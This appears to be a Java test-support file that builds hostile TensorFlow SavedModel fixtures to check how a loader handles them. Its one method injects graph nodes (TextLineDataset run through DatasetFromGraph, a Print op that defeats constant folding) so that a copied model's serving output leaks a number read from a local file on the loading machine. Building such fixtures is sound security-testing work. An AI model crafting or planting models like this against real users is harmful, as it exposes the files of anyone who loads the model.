package dev.jkeras.saving;

import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.google.protobuf.ByteString;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.tensorflow.proto.AttrValue;
import org.tensorflow.proto.DataType;
import org.tensorflow.proto.GraphDef;
import org.tensorflow.proto.MetaGraphDef;
import org.tensorflow.proto.NodeDef;
import org.tensorflow.proto.SavedModel;
import org.tensorflow.proto.SignatureDef;
import org.tensorflow.proto.TensorInfo;
import org.tensorflow.proto.TensorProto;
import org.tensorflow.proto.TensorShapeProto;

/** SavedModels built to attack whoever loads them, from the Python-made fixtures (../shared/fixtures/savedmodels). */
public final class HostileSavedModels {
  public static final Path FIXTURES = Path.of("../../shared/fixtures/savedmodels").toAbsolutePath().normalize();

  private HostileSavedModels() {}

  /**
   * half_plus_two_tf1 copied to {@code target}, its {@code serving_default} returning
   * {@code 0.5x + 2 + n}, n the number on the first line of {@code secret}: a string constant holds a
   * serialized graph of a {@code TextLineDataset} over the file, which {@code DatasetFromGraph} runs and
   * {@code DatasetToSingleElement} reads (through a {@code Print} that prints nothing: TensorFlow does
   * not constant-fold a stateful op).
   */
  public static Path readingAFile(Path target, Path secret) throws IOException {
    GraphDef reader = GraphDef.newBuilder()
        .addNode(constant("filenames", TensorProto.newBuilder().setDtype(DataType.DT_STRING)
            .setTensorShape(TensorShapeProto.newBuilder().addDim(TensorShapeProto.Dim.newBuilder().setSize(1)))
            .addStringVal(ByteString.copyFromUtf8(secret.toString()))))
        .addNode(constant("compression", scalar(DataType.DT_STRING).addStringVal(ByteString.EMPTY)))
        .addNode(constant("buffer", scalar(DataType.DT_INT64).addInt64Val(1024)))
        .addNode(node("lines", "TextLineDataset", "filenames", "compression", "buffer"))
        .addNode(node("result", "_Retval", "lines").putAttr("T", type(DataType.DT_VARIANT))
            .putAttr("index", AttrValue.newBuilder().setI(0).build()))
        .build();
    Path dir = copy(FIXTURES.resolve("half_plus_two_tf1"), target);
    Path pb = dir.resolve("saved_model.pb");
    SavedModel model = SavedModel.parseFrom(Files.readAllBytes(pb));
    MetaGraphDef.Builder meta = model.getMetaGraphs(0).toBuilder();
    meta.getGraphDefBuilder()
        .addNode(constant("leak/graph", scalar(DataType.DT_STRING).addStringVal(reader.toByteString())))
        .addNode(constant("leak/nothing", scalar(DataType.DT_INT32).addIntVal(0)))
        .addNode(node("leak/unfolded", "Print", "leak/graph", "leak/nothing")
            .putAttr("T", type(DataType.DT_STRING))
            .putAttr("U", AttrValue.newBuilder().setList(AttrValue.ListValue.newBuilder()
                .addType(DataType.DT_INT32)).build())
            .putAttr("first_n", AttrValue.newBuilder().setI(0).build()))
        .addNode(node("leak/dataset", "DatasetFromGraph", "leak/unfolded"))
        .addNode(node("leak/line", "DatasetToSingleElement", "leak/dataset")
            .putAttr("output_types", AttrValue.newBuilder().setList(AttrValue.ListValue.newBuilder()
                .addType(DataType.DT_STRING)).build())
            .putAttr("output_shapes", AttrValue.newBuilder().setList(AttrValue.ListValue.newBuilder()
                .addShape(TensorShapeProto.getDefaultInstance())).build()))
        .addNode(node("leak/number", "StringToNumber", "leak/line").putAttr("out_type", type(DataType.DT_FLOAT)))
        .addNode(node("leak/sum", "AddV2", "y", "leak/number").putAttr("T", type(DataType.DT_FLOAT)));
    SignatureDef serving = meta.getSignatureDefOrThrow("serving_default");
    TensorInfo y = serving.getOutputsOrThrow("y").toBuilder().setName("leak/sum:0").build();
    meta.putSignatureDef("serving_default", serving.toBuilder().putOutputs("y", y).build());
    Files.write(pb, model.toBuilder().setMetaGraphs(0, meta).build().toByteArray());
    return dir;
  }

  private static TensorProto.Builder scalar(DataType dtype) {
    return TensorProto.newBuilder().setDtype(dtype).setTensorShape(TensorShapeProto.getDefaultInstance());
  }

  private static NodeDef.Builder constant(String name, TensorProto.Builder value) {
    return node(name, "Const").putAttr("dtype", type(value.getDtype()))
        .putAttr("value", AttrValue.newBuilder().setTensor(value).build());
  }

  private static NodeDef.Builder node(String name, String op, String... inputs) {
    return NodeDef.newBuilder().setName(name).setOp(op).addAllInput(List.of(inputs));
  }

  private static AttrValue type(DataType type) {
    return AttrValue.newBuilder().setType(type).build();
  }

  /** A copy of the SavedModel directory {@code source} at {@code target}; skips when the fixture is absent. */
  static Path copy(Path source, Path target) throws IOException {
    assumeTrue(Files.isDirectory(source), "fixture missing: " + source);
    try (Stream<Path> files = Files.walk(source)) {
      for (Path file : (Iterable<Path>) files::iterator) {
        Path copy = target.resolve(source.relativize(file).toString());
        if (Files.isDirectory(file)) {
          Files.createDirectories(copy);
        } else {
          Files.copy(file, copy);
        }
      }
    }
    return target;
  }
}
